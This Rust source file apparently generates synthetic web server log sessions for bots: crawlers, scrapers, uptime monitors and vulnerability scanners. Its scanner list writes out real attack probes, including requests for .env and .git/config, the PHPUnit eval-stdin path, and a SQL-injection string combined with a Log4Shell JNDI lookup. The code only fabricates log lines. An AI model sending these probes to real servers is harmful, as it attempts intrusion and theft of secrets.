//! Bots: those that say so, those that pose as people, those that look for holes, and those that only ask whether the server lives.

use super::agents::{self, CRAWLERS, CURRENT, OLD, PROGRAMS, SCANNERS};
use super::line::{Line, Session};
use super::{client, site};
use crate::random::Random;

const PROBES: [&str; 10] = [
    "/wp-login.php",
    "/.env",
    "/phpmyadmin/index.php",
    "/.git/config",
    "/wp-admin/setup-config.php",
    "/admin.php",
    "/cgi-bin/luci/;stok=/locale?form=country",
    "/actuator/health",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/?id=1%27%20OR%20%271%27%3D%271&x=${jndi:ldap://10.0.0.1/a}",
];
/// What comes over a connection that is no HTTP, as nginx and Apache write it.
const NOISE: [&str; 3] = [
    r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03",
    "-",
    r"MGLNDD_10.4.7.1_443\n",
];

pub fn bot(time_s: f64, random: &mut Random) -> Session {
    match random.weighted(&[(0, 3.0), (1, 2.6), (2, 1.6), (3, 1.0)]) {
        0 => crawler(time_s, random),
        1 => scraper(time_s, random),
        2 => scanner(time_s, random),
        _ => monitor(time_s, random),
    }
}

fn session(pattern: &'static str, agent: String, random: &mut Random) -> Session {
    Session {
        client: client(random),
        user: "-".to_owned(),
        agent,
        bot: true,
        pattern,
        lines: Vec::new(),
    }
}

fn crawler(time_s: f64, random: &mut Random) -> Session {
    let agent = (*random.pick(&CRAWLERS)).to_owned();
    let mut session = session("crawler", agent, random);
    let pause_s = random.between(1.5, 9.0);
    let mut now_s = time_s;
    session.push(now_s, site::got("/robots.txt", "1.1", 311, "-"));
    for _ in 0..3 + random.below(20) {
        now_s += pause_s * random.between(0.8, 1.2);
        let path = match random.unit() {
            share if share < 0.03 => "/sitemap.xml".to_owned(),
            share if share < 0.15 => site::assets(false, random)
                .pop()
                .map_or_else(|| "/".to_owned(), |(path, _)| path),
            _ => site::page(random),
        };
        let bytes = site::page_bytes(random);
        let mut line = site::got(&path, "1.1", bytes, "-");
        match random.unit() {
            share if share < 0.25 => (line.status, line.bytes) = (304, None),
            share if share < 0.33 => (line.status, line.bytes) = (404, Some(2_310)),
            _ => {}
        }
        session.push(now_s, line);
    }
    session
}

/// Takes one product after the other, and of a page no more than the page.
fn scraper(time_s: f64, random: &mut Random) -> Session {
    let open = random.chance(0.35);
    let agent = if open {
        (*random.pick(&PROGRAMS)).to_owned()
    } else {
        agents::browser(if random.chance(0.7) { OLD } else { CURRENT }, random)
    };
    let mut session = session(if open { "program" } else { "scraper" }, agent, random);
    let version = if random.chance(0.75) { "1.1" } else { "2.0" };
    let home = format!("{}/", site::ORIGIN);
    let referer = match random.unit() {
        share if share < 0.62 => "-",
        share if share < 0.8 => home.as_str(),
        _ => "https://www.google.com/",
    };
    let mut product = random.below(site::PRODUCTS);
    let mut now_s = time_s;
    for _ in 0..4 + random.below(30) {
        let path = if random.chance(0.8) {
            product = (product + 1) % site::PRODUCTS;
            site::product(product)
        } else {
            site::category(random)
        };
        let bytes = site::page_bytes(random);
        let mut line = site::got(&path, version, bytes, referer);
        match random.unit() {
            share if share < 0.06 => (line.status, line.bytes) = (404, Some(2_310)),
            share if share < 0.09 => (line.status, line.bytes) = (429, Some(162)),
            _ => {}
        }
        session.push(now_s, line);
        now_s += random.between(0.4, 3.0);
    }
    session
}

fn scanner(time_s: f64, random: &mut Random) -> Session {
    let agent = if random.chance(0.4) {
        agents::browser(OLD, random)
    } else {
        (*random.pick(&SCANNERS)).to_owned()
    };
    let mut session = session("scanner", agent, random);
    let mut now_s = time_s;
    for _ in 0..1 + random.below(8) {
        let (request, status) = if random.chance(0.12) {
            ((*random.pick(&NOISE)).to_owned(), 400)
        } else {
            let method = random.weighted(&[
                ("GET", 6.0),
                ("POST", 2.0),
                ("HEAD", 1.0),
                ("PROPFIND", 0.2),
            ]);
            let status = random.weighted(&[(404, 7.0), (403, 1.5), (301, 0.5), (405, 0.5)]);
            (
                format!("{method} {} HTTP/1.1", random.pick(&PROBES)),
                status,
            )
        };
        let line = Line {
            request,
            status,
            bytes: Some(if status == 400 { 157 } else { 2_310 }),
            referer: "-".to_owned(),
        };
        session.push(now_s, line);
        now_s += random.between(0.2, 2.0);
    }
    session
}

fn monitor(time_s: f64, random: &mut Random) -> Session {
    let agent = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)".to_owned();
    let mut session = session("monitor", agent, random);
    for nth in 0..1 + random.below(6) {
        let line = Line {
            request: "HEAD / HTTP/1.1".to_owned(),
            status: 200,
            bytes: Some(0),
            referer: "-".to_owned(),
        };
        session.push(time_s + nth as f64 * 60.0, line);
    }
    session
}
